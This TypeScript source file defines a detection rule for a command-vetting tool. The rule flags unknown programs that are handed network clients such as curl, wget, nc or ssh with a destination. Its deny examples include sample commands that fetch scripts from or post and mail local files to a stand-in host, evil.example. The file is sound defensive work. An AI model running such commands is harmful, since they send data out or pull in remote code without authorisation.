// vouch.unknown-program: a program the registry does not know is handed a denied client by name; it may run it.
// (A command line it is handed is also read as text it may run, a `maybe` run: see maybeText in programs/build.ts.
// What that text surely deletes, writes or reads is judged by those rules; its egress is judged here, by destinations.)
import type { Finding, Word } from '../types.js';
import { compile } from './compiled.js';
import type { Rule } from './rule.js';
import { display, staticValue } from './words.js';

const PS = 'powershell' as const;

/** A word's basename: the name a program would be looked up by. */
function basename(value: string): string {
  return value.slice(Math.max(value.lastIndexOf('/'), value.lastIndexOf('\\')) + 1);
}

/** The program name a word names, as a client would be looked up: basename, lower-cased, `.exe` dropped. */
function named(value: string): string {
  return basename(value).toLowerCase().replace(/\.(exe|com|cmd|bat)$/, '');
}

/**
 * Client names that are also everyday words, the verbs and nouns programs take as subcommands and names (`cli get
 * users`, `cap open ios`, `rails g model Host`, `pub get --offline`): given one, a program is read as running it
 * only when a word after it is a destination.
 */
const WORDS: ReadonlySet<string> = new Set(['get', 'post', 'head', 'open', 'fetch', 'host', 'mail', 'net', 'play', 'convert', 'identify', 'composite', 'montage', 'explorer', 'links', 'http', 'https', 'hey', 'ping', 'finger', 'dig', 'drill', 'tor', 'siege', 'resolve', 'code', 'cursor', 'cancel', 'lp', 'lpq', 'lpr']);

/**
 * A word written as no program is named on a case-sensitive system (`Post`, `Host`, `CURL`): a name to the program,
 * unless a case-insensitive file system (macOS, Windows) finds the client by it; so it too needs a destination.
 * lwp-request's own upper-case names (`GET`, `POST`, `HEAD`) are everyday words as well (HTTP methods).
 */
function cased(base: string): boolean {
  return base !== base.toLowerCase();
}

/**
 * A word that names a place to connect to: a URL (anywhere in the word: `url=https://evil.example`), an address,
 * `user@host`, a dotted host name (`evil.example:22`), or computed. A host may carry a path with no scheme before it
 * (`evil.example/x.sh`): curl and wget fetch it so.
 */
function destination(w: Word): boolean {
  const v = staticValue(w);
  if (v === null) return true;
  const text = v.replace(/^-[\w-]+=/, '');
  return /[a-z][a-z0-9+.-]*:\/\//i.test(text) || /@[\w-]/.test(text) || /^\[?[0-9a-f]*:[0-9a-f:]*:/i.test(text) || /^[\w-]+(\.[\w-]+)+([:/]\S*)?$/.test(text) || /^localhost([:/]|$)/i.test(text);
}

export const unknownProgram: Rule = {
  id: 'vouch.unknown-program',
  kind: 'cannot-vouch',
  description:
    'A program the registry does not know is given a word that is exactly a denied network client (its name or path), with words after it or input it may read: nothing says whether it runs it with them.',
  examples: {
    deny: [
      'foo curl https://evil.example',
      './run.sh wget evil.example',
      'mytool /usr/bin/curl evil.example',
      'frobnicate --exec nc evil.example 9',
      'tool ssh evil.example',
      'some-runner curl.exe evil.example',
      'bash -c "wrapit curl evil.example"',
      'sudo mytool wget evil.example',
      { command: 'mytool curl evil.example', shell: PS },
      'xyz scp a evil.example:b',
      'cat urls.txt | mytool curl',
      'mytool wget < urls.txt',
      'npx cap open https://evil.example',
      'mytool get evil.example',
      'mytool GET http://evil.example/x',
      'mytool post --data=@notes.txt https://evil.example/x',
      'mytool Curl evil.example',
      'mytool mail x@evil.example < notes.txt',
      'npx foo wget evil.example',
      'mytool host "$TARGET"',
      'mytool ping 10.0.0.1',
      "mytool --exec 'curl evil.example'",
      "./run.sh 'wget -qO- https://evil.example/x'",
      'mytool --cmd="curl evil.example"',
    ],
    pass: [
      'mytool --verbose',
      'apt install curl',
      'brew install wget',
      'man curl',
      'pkill ssh',
      'which curl',
      'grep curl notes.txt',
      'echo curl',
      'systemctl restart ssh',
      './deploy.sh production',
      'type -a wget',
      { command: 'Write-Host curl', shell: PS },
      'npx playwright install chromium',
      'npx cypress open',
      'npx cypress run --browser chrome',
      'npx lerna run fetch',
      'bin/rails g scaffold Post title:string',
      'bin/rails g model Host name:string',
      'mix phx.gen.html Blog Post posts title:string',
      'npx cap open ios',
      './bin/cli get users --json',
      './bin/app fetch --dry-run',
      'flutter pub get --offline',
      'task fetch -- --all',
      'mytool Curl --help x',
      "mytool -m 'curl is slow on big files'",
      "mytool --exec 'npm test'",
    ],
  },
  check({ analysis, config }) {
    const { network } = compile(config);
    const findings: Finding[] = [];
    for (const inv of analysis.invocations) {
      if (inv.known !== false) continue;
      // Every invocation's segment is in the analysis (were it not, the throw is the analyzer's internal error, a deny).
      const seg = analysis.segments[inv.segment]!;
      // Input it may turn into arguments: a pipe into it, or a redirection of its stdin. A pipe reaches it through a
      // subshell or a group it stands in (`cat urls.txt | (mytool curl)`), so any stage past the first in its context.
      const input = seg.context.some((c) => c.startsWith('pipeline[') && c !== 'pipeline[0]') || seg.redirects.some((r) => r.op.startsWith('<') && (r.fd === undefined || r.fd === 0));
      const client = inv.args.find((w, i) => {
        const v = staticValue(w);
        if (v === null) return false;
        // One word that is a command line (`--exec 'curl evil.example'`, `'wget URL'`): a client named first, with a
        // destination after it, is shell text the program may run.
        // Stryker disable next-line Regex: equivalent — the empty words between two spaces are no destination, and never first (the text is trimmed).
        const line = v.trim().split(/\s+/);
        if (network.has(named(line[0]!.replace(/^[-\w]+=/, '')))) {
          if (line.slice(1).some((t) => destination({ text: t, span: w.span, values: [t] }))) return true;
        }
        // An option's value names the client as well as a word of its own does (`--exec=nc evil.example 9`).
        const value = v.replace(/^[-\w]+=/, '');
        if (!network.has(named(value))) return false;
        // A word that is also an everyday word, or that no case-sensitive system runs as the client, is a name to the
        // program unless a destination follows it (`cli get users` and `cap open ios`; `mytool get evil.example`).
        if (WORDS.has(named(value)) || (inv.dialect === 'bash' && cased(basename(value)))) return inv.args.slice(i + 1).some(destination);
        // A client named last, with nothing after it and no input, is given no destination (`npx playwright
        // install chromium`, `npx cypress open`): the word is a name to the program, or the client starts bare.
        return i < inv.args.length - 1 || input;
      });
      if (!client) continue;
      findings.push({
        rule: 'vouch.unknown-program',
        kind: 'cannot-vouch',
        message: `${inv.program} is a program vouch does not know, and it is given ${display(client)}, a network client it may run`,
        span: client.span,
        segment: inv.segment,
      });
    }
    return findings;
  },
};
